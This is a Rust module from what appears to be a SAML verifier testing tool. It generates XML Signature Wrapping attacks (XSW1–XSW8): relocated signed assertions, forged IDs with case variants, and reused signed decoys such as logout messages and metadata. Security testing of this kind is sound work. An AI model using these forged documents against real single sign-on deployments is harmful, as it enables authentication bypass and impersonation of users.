//! Signature wrapping: what was signed is moved to where a verifier still finds it, and something else is put where a
//! reader looks (Somorovsky et al. 2012 number eight of these).

use crate::base::*;
use crate::world::response;

/// Elements that may hold anything, by schema or because nobody looks.
const CONTAINERS: [(&str, &str, &str); 8] = [
    ("Extensions", "<samlp:Extensions>", "</samlp:Extensions>"),
    ("Object", "<ds:Object xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">", "</ds:Object>"),
    ("Advice", "<saml:Advice>", "</saml:Advice>"),
    ("StatusDetail", "<samlp:StatusDetail>", "</samlp:StatusDetail>"),
    ("another assertion", "<saml:Assertion>", "</saml:Assertion>"),
    ("an encrypted assertion", "<saml:EncryptedAssertion>", "</saml:EncryptedAssertion>"),
    ("another response", "<samlp:Response>", "</samlp:Response>"),
    ("an unknown element", "<x:any xmlns:x=\"urn:x\">", "</x:any>"),
];

/// Places in a forged assertion: the end of the element behind which it goes.
const POCKETS: [(&str, &str); 5] = [
    ("the confirmation's data", "</saml:SubjectConfirmation>"),
    ("the conditions", "</saml:Conditions>"),
    ("the authentication context", "</saml:AuthnContext>"),
    ("an attribute's value", "</saml:AttributeValue>"),
    ("the audience restriction", "</saml:AudienceRestriction>"),
];

/// IDs of what is forged: its own, the same, and the same for whoever ignores case.
const IDS: [&str; 3] = ["_f1", "_a1", "_A1"];

/// XSW3 to XSW8: the signed assertion, or its signature, moved.
pub(crate) fn assertions(base: &Base) -> Vec<Attack> {
    if base.profile.shape != Shape::Assertion {
        return Vec::new();
    }
    let (original, plain, signature) = (base.assertion(), base.bare_assertion(), base.signature());
    let mut attacks = Vec::new();
    let mut add = |name: String, content: &str| attacks.push(attack(name, response(content)));
    for id in IDS {
        let forged = forged(id);
        let with_signature = behind_issuer(&forged, signature);
        for place in Place::ALL {
            let word = place.word();
            add(format!("the original {word} {id}"), &place.put(original, &forged));
            add(format!("{id} {word} the original"), &place.put(&forged, original));
            add(
                format!("the signature in {id}, the original {word} it"),
                &place.put(&plain, &with_signature),
            );
            add(
                format!("the signature {word} {id}, the original in it"),
                &place.put(&Place::Inside.put(&plain, signature), &forged),
            );
            for (container, open, close) in CONTAINERS {
                let held = format!("{open}{original}{close}");
                add(format!("the original in {container} {word} {id}"), &place.put(&held, &forged));
                let held = format!("{open}{forged}{close}");
                add(format!("{id} in {container} {word} the original"), &place.put(&held, original));
                let held = format!("{open}{plain}{close}");
                let pocket = behind_issuer(&forged, &place.put(&held, signature));
                add(format!("the original in {container} {word} the signature of {id}"), &pocket);
            }
        }
        for (pocket, end) in POCKETS {
            add(
                format!("the original in {pocket} of {id}"),
                &forged.replacen(end, &format!("{original}{end}"), 1),
            );
        }
    }
    attacks
}

/// XSW1 and XSW2: the same with the whole response.
pub(crate) fn responses(base: &Base) -> Vec<Attack> {
    if !base.is_response_signed() {
        return Vec::new();
    }
    let (original, signature) = (&base.document, base.signature());
    let plain = unsigned(original);
    let mut attacks = Vec::new();
    for id in ["_r2", "_r1", "_R1"] {
        let victim = forged("_f1");
        let outer = forged_response(id, &victim);
        let with_signature = behind_issuer(&outer, signature);
        for place in Place::ALL {
            let word = place.word();
            let mut add = |name: String, document: String| attacks.push(attack(name, document));
            let in_signature = behind_issuer(&outer, &place.put(&plain, signature));
            add(format!("the original response {word} the signature of {id}"), in_signature);
            add(format!("the original response beside {id}: {word}"), place.put(original, &outer));
            add(format!("{id} with the signature, the original {word}"), place.put(&plain, &with_signature));
            for (container, open, close) in CONTAINERS {
                let held = format!("{open}{original}{close}");
                let document = forged_response(id, &place.put(&held, &victim));
                add(format!("the original response in {container} {word} the assertion of {id}"), document);
                let held = format!("{open}{plain}{close}");
                let document = behind_issuer(&outer, &place.put(&held, signature));
                add(format!("the original in {container} {word} the signature of {id}"), document);
            }
            let injected = original.replace(base.assertion(), &place.put(&victim, base.assertion()));
            add(format!("a forged assertion {word} the one in a signed response"), injected);
        }
    }
    attacks
}

/// What the provider signed at another time, for another purpose, as the one signed part of a forged response.
pub(crate) fn decoys(base: &Base) -> Vec<Attack> {
    let (profile, mut attacks) = (base.profile, Vec::new());
    for (what, signed) in decoy_documents(profile) {
        let signature = signature(&signed);
        for id in ["_f1", "_d1"] {
            let victim = forged(id);
            for place in Place::ALL {
                let word = place.word();
                let mut add = |name: String, document: String| attacks.push(attack(name, document));
                add(format!("{what} {word} {id}"), response(&place.put(&signed, &victim)));
                add(format!("{what} with {id} {word}"), place.put(&victim, &signed));
                let stolen = behind_issuer(&victim, &Place::Inside.put(&unsigned(&signed), signature));
                add(
                    format!("{what} in its signature in {id}, {word}"),
                    response(&place.put("<samlp:Extensions/>", &stolen)),
                );
                for (container, open, close) in CONTAINERS {
                    let held = format!("{open}{signed}{close}");
                    add(format!("{what} in {container} {word} {id}"), response(&place.put(&held, &victim)));
                }
            }
        }
    }
    attacks
}

fn decoy_documents(profile: Profile) -> Vec<(&'static str, String)> {
    let success = "urn:oasis:names:tc:SAML:2.0:status:Success";
    let failure = "urn:oasis:names:tc:SAML:2.0:status:Responder";
    let error = response("").replace(success, failure).replace("_r1", "_d1");
    let logout = error.replace("samlp:Response", "samlp:LogoutResponse").replace(failure, success);
    let request = error.replace("samlp:Response", "samlp:LogoutRequest");
    let metadata = format!(
        r#"<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="{idp}" ID="_d1"><saml:Issuer xmlns:saml="{ASSERTION}">{idp}</saml:Issuer></md:EntityDescriptor>"#,
        idp = crate::world::IDP
    );
    [
        ("a signed error", error),
        ("a signed logout response", logout),
        ("a signed request", request),
        ("signed metadata", metadata),
    ]
    .map(|(what, document)| (what, profile.sign(profile.provider(), &document, "_d1")))
    .to_vec()
}
